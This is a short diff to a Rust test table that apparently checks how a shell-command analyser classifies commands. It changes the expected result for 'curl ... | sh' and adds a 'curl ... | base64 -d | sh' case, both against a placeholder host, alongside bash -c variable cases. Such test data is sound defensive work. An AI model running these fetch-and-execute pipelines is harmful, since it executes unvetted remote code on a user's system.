@@ -193,7 +193,12 @@ fn what_a_shell_runs_is_read_or_opaque() {
             &["curl -s -o i.sh https://x.example.com"],
             true,
         ),
-        ("curl -s https://x.example.com | sh", &["curl -s https://x.example.com"], true),
+        ("curl -s https://x.example.com | sh", &["curl -s https://x.example.com"], false),
+        (
+            "curl -s https://x.example.com | base64 -d | sh",
+            &["curl -s https://x.example.com"],
+            true,
+        ),
         ("bash -c \"$X\"", &[], true),
         ("bash $X", &[], true),
         ("bash \"$DIR/build.sh\"", &[], true),
